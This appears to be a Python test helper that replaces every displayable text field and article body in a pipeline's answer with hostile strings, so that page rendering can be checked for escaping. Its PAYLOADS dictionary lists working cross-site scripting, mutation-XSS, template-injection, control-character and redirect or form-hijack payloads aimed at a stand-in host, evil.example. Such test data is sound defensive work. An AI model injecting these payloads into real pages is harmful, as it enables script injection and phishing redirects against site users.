"""An answer in which every text that a page could show is hostile: names, titles, addresses, reasons, the articles themselves."""

from dataclasses import fields, is_dataclass, replace
from typing import Any

from selon.model.article import Article
from selon.pipeline import Answer

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "handler": "<img src=x onerror=alert(1)>",
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "frame": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "base": "<base href=https://evil.example/>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "style": "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/a.css>",
    "form": "</form><form action=https://evil.example/ method=post><button autofocus>",
    "quotes": "\"'><a onmouseover=alert(1) href=x>",
    "attribute": '" autofocus onfocus=alert(1) x="',
    "mglyph": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "comment": "--><script>alert(1)</script><!--",
    "htmx": "<div hx-post=/rulings hx-trigger=load data-hx-get=/x></div>",
    "template": "{{ 7 * 7 }}{% for x in y %}${7*7}#{7*7}<%= 7*7 %>",
    "script address": "javascript:alert(1)//",
    "data address": "data:text/html,<script>alert(1)</script>",
    "controls": "a\x00b\x1b[31mc\u202edrow\u2066x\u200by\ufeffz\u0085",
    "entities": "&lt;script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "close": "</title></textarea></q></bdi></p></main></body></html><script>alert(1)</script>",
}
"""What stood in real attacks, one of a kind each."""

_TEXTS = {
    "outlet", "title", "name", "role", "organisation", "how", "label", "claimant", "by", "what", "why", "sentence", "url", "address", "tie",
    "degraded", "reasons", "authors", "aliases", "rule", "country", "where",
}  # fmt: skip
_BUT = {"Hop": {"how"}}  # a kind, not a text
_IN = {"Interval": {"source"}, "ClaimLink": {"evidence"}, "Proof": {"a", "b"}, "Candidate": {"value"}, "Variant": {"what"}}


def poisoned(answer: Answer, payload: str) -> Answer:
    """The same records with the same ids and spans; each text is the payload, each article holds nothing else."""
    return Answer(**{field.name: _poisoned(getattr(answer, field.name), payload) for field in fields(answer)})


def _poisoned(value: Any, payload: str) -> Any:
    if isinstance(value, tuple):
        return tuple(_poisoned(one, payload) for one in value)
    if not is_dataclass(value) or isinstance(value, type):
        return value
    kind = type(value).__name__
    changed = {}
    for field in fields(value):
        old = getattr(value, field.name)
        is_text = (field.name in _TEXTS and field.name not in _BUT.get(kind, ())) or field.name in _IN.get(kind, ())
        changed[field.name] = _texts(old, payload) if is_text else _poisoned(old, payload)
    if isinstance(value, Article):
        changed["text"] = (payload + " ") * (len(value.text) // (len(payload) + 1) + 1)
        changed["text"] = changed["text"][: len(value.text)]
    return replace(value, **changed)


def _texts(old: Any, payload: str) -> Any:
    if isinstance(old, str):
        return payload
    return tuple(payload if isinstance(one, str) else one for one in old) if isinstance(old, tuple) else old
